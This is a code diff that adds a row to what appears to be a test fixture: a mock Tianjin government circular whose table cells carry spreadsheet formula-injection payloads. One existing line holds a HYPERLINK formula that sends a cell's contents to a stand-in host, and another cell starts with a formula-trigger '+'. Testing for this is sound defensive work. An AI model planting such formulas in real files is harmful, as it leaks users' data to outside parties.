@@ -38,6 +38,7 @@ CIRCULAR = f"""{TITLE}
 1 | =HYPERLINK("http://example.invalid/?"&A1,"点此") | {ATTACKS[5]} | 优秀 |
 2 | {ATTACKS[6]} | +市商务局 | 不合格 |
 3 | {ATTACKS[8]} | 首页 登录 | 合格 |
+4 | 市财政局 | {ATTACKS[6]} | 优秀 |
 
 天津市人民政府办公厅
 2020年4月20日
